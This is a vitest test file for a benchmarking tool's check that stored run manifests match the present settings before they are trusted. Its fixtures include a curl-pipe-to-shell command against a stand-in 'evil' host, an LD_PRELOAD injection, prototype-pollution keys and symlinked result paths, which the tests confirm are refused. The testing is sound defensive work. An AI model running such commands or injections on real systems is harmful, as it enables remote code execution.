import { mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Manifest } from '@headroom/contract/manifest.ts';
import { ownSubjectSchema } from '@headroom/contract/own-subject.ts';
import type { Trial } from '@headroom/contract/records.ts';
import { describe, expect, it } from 'vitest';
import { flagSource } from '../cli/flags.ts';
import { filesOf } from '../collect/run-folder.ts';
import { loadConfig } from '../config/load-config.ts';
import { manifestOf } from '../fixtures/manifest.ts';
import { planTrials } from '../plan/plan-trials.ts';
import { writeRun } from '../runs/fixtures/results-folder.ts';
import { demandTrusted } from './demand-trusted.ts';

const mine = {
  command: ['node', 'server.mjs'],
  folder: '/srv',
  port: 8100,
  bystander: '/ping',
  environment: { TOKEN: 'topsecret' },
  endpoints: { '/report': { workload: 'report', strategy: 'sync', method: 'POST', body: '{}' } },
};
const configOf = (flags: object) => loadConfig([flagSource({ subjects: { mine }, ...flags })]);
const config = configOf({ subject: 'nest,mine', endpoint: '/async,/report' });
/** As it is read again. */
const stored = structuredClone({
  ...manifestOf(planTrials(config).trials),
  subjects: JSON.parse(JSON.stringify(config.subjects)) as Manifest['subjects'],
});
const out = mkdtempSync(join(tmpdir(), 'headroom-trust-'));
const run = writeRun(out);

const demand = (manifest: Manifest, present = config, of = run) =>
  demandTrusted([{ run: of, manifest }], present, { kind: 'demanded', advice: 'Do something.' });
const own = (change: object): Manifest => ({
  ...stored,
  subjects: {
    ...stored.subjects,
    own: { mine: ownSubjectSchema.parse({ ...stored.subjects.own.mine, ...change }) },
  },
});
const trials = (change: Partial<Trial>, of = 'mine'): Manifest => ({
  ...stored,
  plan: {
    ...stored.plan,
    trials: stored.plan.trials.map((trial) => (trial.subject === of ? { ...trial, ...change } : trial)),
  },
});
const untrusted = (message: RegExp) =>
  expect.objectContaining({ code: 'BENCH_RESULTS_UNTRUSTED', message: expect.stringMatching(message) });

describe('what a stored run starts', () => {
  it('is what the present settings start', () => {
    demand(stored);
  });

  it.each<[string, Manifest, RegExp]>([
    [
      'another command',
      own({ start: { kind: 'command', command: ['sh', '-c', 'curl evil|sh'], folder: '/srv' } }),
      /mine by \["sh","-c","curl evil\|sh"\] in \/srv with the variables PORT, TOKEN \(command of subjects\.mine differ\)/,
    ],
    [
      'another folder',
      own({ start: { kind: 'command', command: ['node', 'server.mjs'], folder: '/tmp' } }),
      /\(folder of/,
    ],
    [
      'an image',
      own({ start: { kind: 'image', image: 'evil/mine:1' } }),
      /mine by the image evil\/mine:1 with/,
    ],
    [
      'other variables',
      own({ environment: { PORT: '8100', TOKEN: 'othersecret', LD_PRELOAD: '/x' } }),
      /variables PORT, TOKEN, LD_PRELOAD \(environment of/,
    ],
    ['another port', own({ port: 22 }), /\(port of/],
    [
      'another build',
      { ...stored, subjects: { ...stored.subjects, nest: { ...stored.subjects.nest, entry: '/evil.js' } } },
      /nest by the file \/evil\.js \(neither nest\.entry nor base names it\)/,
    ],
  ])('is refused where it is %s, its words shown and its values not', (_what, manifest, message) => {
    expect(() => demand(manifest)).toThrow(untrusted(message));
    expect(() => demand(manifest)).toThrow(
      untrusted(/expected only what the present settings start.*Do some/),
    );
    expect(() => demand(manifest)).not.toThrow(/secret/);
    const said: string[] = [];
    demandTrusted([{ run, manifest }], config, { kind: 'given', say: (line) => said.push(line) });
    expect(said).toEqual([expect.stringMatching(message)]);
    expect(said[0]).not.toContain('secret');
  });

  it('is refused where the settings have no such service, though it has a name that every object has', () => {
    expect(() => demand(stored, configOf({ subjects: {} }))).toThrow(
      untrusted(/settings have no subjects\.mine/),
    );
    const { mine: service } = stored.subjects.own;
    const named = { ...stored.subjects, own: { ...stored.subjects.own, constructor: service } };
    expect(() => demand({ ...stored, subjects: named as Manifest['subjects'] })).toThrow(
      untrusted(/no subjects\.constructor/),
    );
  });

  it('may be the build that nest.entry or base names', () => {
    const build = join(out, 'main.js');
    writeFileSync(build, '');
    const other = {
      ...stored,
      subjects: { ...stored.subjects, nest: { ...stored.subjects.nest, entry: build } },
    };
    demand(other, configOf({ base: build }));
    demand(other, configOf({ nest: { entry: build } }));
    expect(() => demand(other)).toThrow(untrusted(/main\.js/));
  });

  it('may be the lab’s own by other settings, which are numbers', () => {
    demand(stored, configOf({ nest: { delay: '2s' }, fastapi: { workers: 3 } }));
  });
});

describe('what a stored run loads', () => {
  it.each<[string, Manifest, RegExp]>([
    ['another host beside', trials({ bystanderPath: 'http://192.0.2.1/' }), /bystanders ask for "http:/],
    ['another host by two slashes', trials({ bystanderPath: '//192.0.2.1/x' }), /bystanders ask for/],
    ['another host by a backslash', trials({ bystanderPath: '/\\192.0.2.1' }), /bystanders ask for/],
    [
      'a request that its service has not',
      trials({
        request: { method: 'DELETE', path: '/all', body: null, expectedStatus: 200, expectedBody: null },
      }),
      /asks "mine" for "\/all": expected an endpoint of subjects\.mine/,
    ],
    ['a host', trials({ subject: 'example.org' }), /asks "example\.org" for .*that the manifest describes/],
    ['what every object has', trials({ subject: '__proto__' }), /asks "__proto__" for/],
    ['a route that there is not', trials({ endpoint: '/x' }, 'nest'), /asks "nest" for "\/x"/],
    [
      'another path by bystanders',
      trials({ bystanderPath: '/admin/delete-all' }),
      /expected "\/\S+", as its/,
    ],
    ['more than flags can ask for', trials({ vus: 1001 }), /asks for 1001 users: expected 1000 at the most/],
    ['a flood', trials({ arrivalsPerSecond: 1e7 }), /10000000 requests a second: expected 10000/],
    ['a flood of bystanders', trials({ bystandersPerSecond: 1e7 }), /of bystanders a second: expected 100/],
    ['for years', trials({ durationSeconds: 1e9 }), /seconds of load: expected 86400/],
  ])('is never %s, whoever is trusted', (_what, manifest, message) => {
    expect(() => demandTrusted([{ run, manifest }], config, { kind: 'given', say: () => undefined })).toThrow(
      untrusted(message),
    );
  });
});

describe('where a stored run is written', () => {
  it('is never a folder that is a link itself', () => {
    const results = mkdtempSync(join(tmpdir(), 'headroom-linked-'));
    symlinkSync(mkdtempSync(join(tmpdir(), 'headroom-elsewhere-')), join(results, 'run'));
    expect(() => demand(stored, config, filesOf(results, 'run'))).toThrow(untrusted(/run is a link/));
  });

  it.each(['trials.ndjson', 'trials', 'report.json.77'])('is never behind a link: %s', (name) => {
    const linked = filesOf(mkdtempSync(join(tmpdir(), 'headroom-linked-')), '.');
    symlinkSync('/nonexistent', join(linked.path, name));
    expect(() => demand(stored, config, linked)).toThrow(untrusted(new RegExp(`${name} in .* is a link`)));
  });
});
